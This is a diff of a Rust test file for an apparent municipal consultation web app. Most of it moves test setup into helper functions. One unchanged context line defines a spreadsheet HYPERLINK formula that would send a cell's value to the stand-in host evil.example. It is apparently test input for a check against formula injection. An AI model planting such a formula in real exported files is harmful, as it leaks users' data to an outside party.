@@ -5,9 +5,9 @@
 
 use crate::accounts::{resident, PASSWORD};
 use crate::attachments::{hrefs, pdf, upload};
-use crate::consultations::{announce, consultation_fields, jst};
+use crate::consultations::{create_december, jst};
 use crate::proposals::{act, draft};
-use crate::proposals_review::{responsible, DEPARTMENT};
+use crate::proposals_review::{responsible, reviewer};
 use crate::staff::{department, staff_member};
 use crate::support::{run, visible_text, TestApp, Visitor};
 use diesel::prelude::*;
@@ -98,13 +98,7 @@ const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?q=\"&B2,\"詳細\")";
 async fn published_result(app: &TestApp, admin: &Visitor) {
     let dept = department(app, "企画課");
     app.clock.set(jst(2026, 11, 30, 12, 0, 0));
-    let fields = consultation_fields(dept, "2026-12-01", "2026-12-30");
-    let fields: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
-    let created = admin
-        .submit("/staff/consultations/new", "/staff/consultations", &fields)
-        .await;
-    assert_eq!(created.status(), 303);
-    announce(admin, 1).await;
+    create_december(admin, dept).await;
     app.clock.set(jst(2026, 12, 2, 10, 0, 0));
     let work = "/staff/consultations/1";
     let paper = admin
@@ -252,13 +246,7 @@ fn attachments_of_a_draft_are_hidden_from_staff_until_submitted() {
     run(async {
         let app = TestApp::start().await;
         responsible(&app);
-        let reviewer = staff_member(
-            &app,
-            "reviewer@example.jp",
-            "審査 一郎",
-            &[("reviewer", Some(DEPARTMENT))],
-        )
-        .await;
+        let reviewer = reviewer(&app).await;
         let admin = staff_member(&app, "admin@example.jp", "管理者", &[("admin", None)]).await;
         let hanako = app.visitor();
         resident(&app, &hanako, "hanako@example.jp", "本庄花子").await;
